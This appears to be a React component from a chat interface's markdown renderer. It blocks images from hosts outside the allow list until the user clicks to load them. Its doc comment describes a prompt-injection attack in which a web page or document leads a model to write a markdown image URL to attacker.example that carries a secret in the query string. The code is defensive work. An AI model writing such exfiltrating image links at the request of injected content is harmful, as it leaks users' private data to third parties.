'use client';

import { PictureOutlined } from '@ant-design/icons';
import { useContext, useState, type ComponentProps } from 'react';

import { ChatLocaleContext } from '../locale/context';
import { useLocaleStrings } from '../locale/useLocaleStrings';
import { MarkdownFeaturesContext } from './markdownFeatures';
import type { ExtraProps } from './markdownTypes';
import { imageAllowed, type ImagePolicy } from './imagePolicy';

export type { ImagePolicy };

/**
 * The markdown renderer's `img` when the app set an image policy: an image from an allowed place
 * renders (by the app's `components.img` if it gave one); any other shows as a button naming its
 * host and alt text, and loads only when the user presses it. A model that was told, by a web page
 * or a document it read, to write `![](https://attacker.example/?q=<secret>)` then leaks nothing
 * by itself: the browser fetches that URL only on the user's click.
 */
export function MarkdownImage(props: ComponentProps<'img'> & ExtraProps) {
  const features = useContext(MarkdownFeaturesContext);
  const chat = useContext(ChatLocaleContext);
  const fallback = useLocaleStrings(undefined);
  const [loadAnyway, setLoadAnyway] = useState(false);
  const { node, ...img } = props;
  const src = typeof img.src === 'string' ? img.src : '';
  const Custom = features.img;
  if (loadAnyway || !features.images || !src || imageAllowed(src, features.images)) {
    return Custom ? <Custom {...props} /> : <img {...img} alt={img.alt ?? ''} />;
  }
  const strings = chat ?? fallback;
  const host = hostOf(src);
  return (
    <button
      type="button"
      data-part="blocked-image"
      title={src}
      onClick={() => setLoadAnyway(true)}
      style={{
        font: 'inherit',
        color: 'inherit',
        background: 'none',
        border: '1px dashed currentColor',
        borderRadius: 4,
        padding: '0 6px',
        cursor: 'pointer',
        opacity: 0.8,
      }}
    >
      <PictureOutlined aria-hidden /> {img.alt ? `${img.alt} · ` : ''}
      {strings.loadImage.replace('{host}', host)}
    </button>
  );
}

function hostOf(src: string): string {
  try {
    return new URL(src).host || src;
  } catch {
    return src;
  }
}
